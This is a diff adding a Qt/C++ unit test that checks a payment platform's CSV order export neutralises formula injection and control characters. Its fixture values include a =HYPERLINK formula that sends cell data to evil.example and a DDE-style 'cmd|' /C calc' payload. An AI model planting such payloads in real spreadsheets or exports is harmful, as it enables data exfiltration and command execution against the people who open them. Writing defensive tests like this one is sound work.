@@ -10,6 +10,7 @@
 #include "storage/Sql.h"
 #include "util/Clock.h"
 #include "util/CsvReader.h"
+#include "util/CsvWriter.h"
 #include "util/Error.h"
 
 #include <QBuffer>
@@ -17,6 +18,7 @@
 #include <QJsonDocument>
 #include <QFile>
 #include <QRandomGenerator>
+#include <QScopeGuard>
 #include <QTemporaryDir>
 #include <QTest>
 
@@ -471,6 +473,74 @@ private slots:
         QCOMPARE(Sql::scalar(db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))->toLongLong(),
                  auditBefore + 1);
         QCOMPARE(p->core->orderSearch().exportCsv(p->onboarding, f, cancelled).error().code(), ErrorCode::PermissionDenied);
+    }
+
+    // Text that payers, merchants and channels chose goes into the CSV defused: the review's
+    // payer id wrote =HYPERLINK(…) in clear. Amounts stay numbers.
+    void exportDefusesFormulasAndControlCharacters()
+    {
+        Platform *p = platform();
+        QVERIFY(p);
+        const Row *paid = nullptr;
+        for (const Row &r : std::as_const(p->rows)) {
+            if (!r.payerId.isEmpty() && r.paidAt && !r.channelTransactionId.isEmpty()) {
+                paid = &r;
+                break;
+            }
+        }
+        QVERIFY(paid);
+        const QString payer = QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for your refund\")");
+        const QString subject = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0\r\n\x1b[2Jnext\tline");
+        const QString merchantOrderNo = QStringLiteral("+%1\u202E").arg(paid->merchantOrderNo);
+        const QString channelTransactionId = QStringLiteral("-%1").arg(paid->channelTransactionId);
+        const QSqlDatabase db = p->core->database().connection().value();
+        auto original = Sql::run(db, QStringLiteral("SELECT subject FROM payment_order WHERE id = ?"), {paid->id});
+        QVERIFY(original && original->next());
+        const QString originalSubject = original->value(0).toString();
+        original->finish();
+        const QString update = QStringLiteral("UPDATE payment_order SET payer_id = ?, subject = ?, merchant_order_no = ?, "
+                                              "channel_transaction_id = ? WHERE id = ?");
+        QVERIFY(Sql::exec(db, update, {payer + QStringLiteral("\x01\x07"), subject, merchantOrderNo, channelTransactionId, paid->id}).ok());
+        auto restore = qScopeGuard([&]() {
+            (void)Sql::exec(db, update, {paid->payerId, originalSubject, paid->merchantOrderNo, paid->channelTransactionId, paid->id});
+        });
+
+        OrderFilter f;
+        f.anyId = paid->orderNo;
+        for (const Actor &actor : {p->finance, p->support}) {
+            QBuffer csv;
+            QVERIFY(csv.open(QIODevice::ReadWrite));
+            auto written = p->core->orderSearch().exportCsv(actor, f, csv);
+            QVERIFY2(written.ok(), qPrintable(written.error().message()));
+            QCOMPARE(*written, qint64(1));
+            for (char c = 0; c < 0x20; ++c) {
+                if (c != '\r' && c != '\n')
+                    QVERIFY2(!csv.data().contains(c), qPrintable(QString::number(int(c))));
+            }
+            auto parsed = CsvReader::read(csv.data());
+            QVERIFY(parsed.ok());
+            QCOMPARE(parsed->size(), 2); // a line break in the subject did not make a row
+            const QStringList header = parsed->at(0).fields;
+            const QStringList row = parsed->at(1).fields;
+            QCOMPARE(row.size(), header.size());
+            auto cell = [&](const char *name) { return row.at(header.indexOf(QString::fromLatin1(name))); };
+            const bool sensitive = actor.name() == QLatin1String("finance");
+            if (sensitive)
+                QCOMPARE(cell("payer_id"), QLatin1Char('\'') + payer);
+            else
+                QVERIFY2(cell("payer_id").startsWith(QStringLiteral("'=")) && cell("payer_id").contains(QLatin1Char('*')),
+                         qPrintable(cell("payer_id"))); // masked, and still defused
+            QCOMPARE(cell("subject"), QStringLiteral("'@SUM(1+1)*cmd|' /C calc'!A0  [2Jnext line"));
+            QCOMPARE(cell("merchant_order_no"), QStringLiteral("'+") + paid->merchantOrderNo);
+            QCOMPARE(cell("channel_transaction_id"), QStringLiteral("'-") + paid->channelTransactionId);
+            for (const char *amount : {"amount", "refunded_amount", "merchant_fee", "channel_fee"})
+                QVERIFY2(CsvWriter::isPlainNumber(cell(amount)), qPrintable(cell(amount)));
+            for (const QString &field : row) {
+                QVERIFY2(!field.startsWith(QLatin1Char('=')) && !field.startsWith(QLatin1Char('+')) &&
+                             !field.startsWith(QLatin1Char('@')) && !field.contains(QChar(0x202E)),
+                         qPrintable(field));
+            }
+        }
     }
 
     void storySnapshotsHidePersonalData()
